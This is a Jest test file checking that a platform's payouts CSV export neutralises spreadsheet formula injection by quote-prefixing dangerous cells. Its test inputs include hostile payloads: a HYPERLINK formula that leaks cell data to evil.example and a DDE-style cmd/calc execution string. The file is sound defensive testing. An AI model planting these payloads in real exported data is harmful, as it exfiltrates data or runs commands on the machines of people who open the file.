import { parseCsv } from '../../domain/csv';
import { payoutsCsv, type Payout } from '../../domain/shoutouts/payouts';

/** Finding 7 of the hardening issue: no cell of a CSV the platform writes is a live spreadsheet formula. */
describe('hardening: the payouts CSV neutralises formulas (OWASP CSV injection)', () => {
  const usd = (amount: number) => ({ amount, currency: 'USD' });
  const payout = (name: string, email: string): Payout => ({
    id: 'pay_1', month: '2026-10', talentId: 'acc_1', name, email, orders: 2, gross: usd(10000), platformFee: usd(2000), refunds: usd(-500), adjustments: usd(-300), amountDue: usd(7200),
    currency: 'USD', status: 'pending', paidAt: null, reference: null,
  });

  it('prefixes cells starting with = + - @ tab or CR with a quote, keeps numbers (negative ones too) as numbers', () => {
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
    for (const name of names) {
      const csv = payoutsCsv([payout(name, '=evil@example.com')]);
      const [header, row] = parseCsv(csv).records;
      const cell = (column: string) => row.fields[header.fields.indexOf(column)];
      expect(cell('name')).toBe(`'${name}`);
      expect(cell('email')).toBe("'=evil@example.com");
      // Money stays numeric, negative amounts included.
      expect([cell('orders'), cell('gross'), cell('refunds'), cell('adjustments'), cell('amount_due')]).toEqual(['2', '100.00', '-5.00', '-3.00', '72.00']);
      for (const field of row.fields) expect(field).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });
});
